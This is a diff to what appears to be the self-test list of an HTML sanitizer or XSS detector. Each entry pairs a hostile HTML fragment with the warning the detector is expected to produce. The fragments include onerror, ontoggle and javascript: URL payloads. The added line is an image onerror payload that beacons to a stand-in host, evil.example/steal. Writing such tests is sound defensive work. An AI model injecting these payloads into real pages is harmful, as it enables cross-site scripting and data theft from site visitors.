@@ -20,6 +20,7 @@ export const SELF_TESTS = [
   { mode: 'fragment', html: embed('allow-scripts allow-same-origin allow-top-navigation'), expect: [/iframe sandbox/] },
   { mode: 'fragment', html: '<img src="x" onerror="alert(1)">', expect: [/event handler/, /script ran alert/] },
   { mode: 'fragment', html: '<details open ontoggle="xss()">x</details>', expect: [/event handler/, /script ran xss/] },
+  { mode: 'fragment', html: '<img src="x" onerror="this.onerror=null;this.loading=\'eager\';this.src=\'https://evil.example/steal?\'+1">', expect: [/event handler/, /request image: "https:\/\/evil\.example\/steal\?1"/] },
   { mode: 'fragment', html: '<a href="javascript:alert(1)">x</a>', expect: [/javascript: URL/] },
   { mode: 'fragment', html: '<a href=" java&#x09;script:alert(1)">x</a>', expect: [/javascript: URL/] },
   { mode: 'fragment', html: '<img src="x" srcset="y 1x, javascript:alert(1) 2x">', expect: [/srcset.*javascript: URL/] },
